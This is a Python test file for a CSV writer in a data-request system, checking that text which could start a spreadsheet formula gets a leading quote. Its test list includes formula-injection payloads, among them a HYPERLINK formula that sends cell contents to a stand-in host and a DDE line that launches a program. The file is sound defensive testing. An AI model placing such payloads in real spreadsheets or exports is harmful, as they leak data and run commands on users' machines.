"""CSV cells a spreadsheet cannot run as formulas: the one rule every CSV writer uses."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dsar.core.csv_cells import FORMULA_PREFIXES, SafeWriter, csv_safe
from dsar.requests.dashboard import register_csv

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "-5",  # text, even when it reads like a number
    "+49 30 7967545",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_could_start_a_formula_gets_a_quote(text: str) -> None:
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("DSAR-2026-7KQ3", "DSAR-2026-7KQ3"),  # a dash inside is harmless
        ("München", "München"),
        ("", ""),
        (None, ""),
        (-5, -5),  # a real number stays a number
        (-1.5, -1.5),
        (Decimal("-2.50"), Decimal("-2.50")),
        (True, True),
        (timedelta(days=-1), "'-1 day, 0:00:00"),  # other types are judged by their text
    ],
)
def test_everything_else_is_written_as_it_is(value: object, written: object) -> None:
    assert csv_safe(value) == written


def test_the_writer_makes_every_cell_safe_and_keeps_quoting() -> None:
    buffer = io.StringIO()
    writer = SafeWriter(buffer, lineterminator="\n")
    writer.writerow(["=header", "name"])
    writer.writerows([["=1+1", -5], ['a,"b"', None]])
    assert buffer.getvalue() == '\'=header,name\n\'=1+1,-5\n"a,""b""",\n'


def test_the_register_of_requests_is_written_through_it() -> None:
    text = "".join(register_csv([("=1+1", "-2", "@x", "DSAR-1", "", "", "", "open")]))
    assert text.splitlines()[1] == "'=1+1,'-2,'@x,DSAR-1,,,,open"


@given(st.text())
def test_no_written_cell_starts_a_formula(text: str) -> None:
    buffer = io.StringIO()
    SafeWriter(buffer).writerow([text])
    (cell,) = next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert not cell.startswith(FORMULA_PREFIXES)
    assert cell in (text, "'" + text)
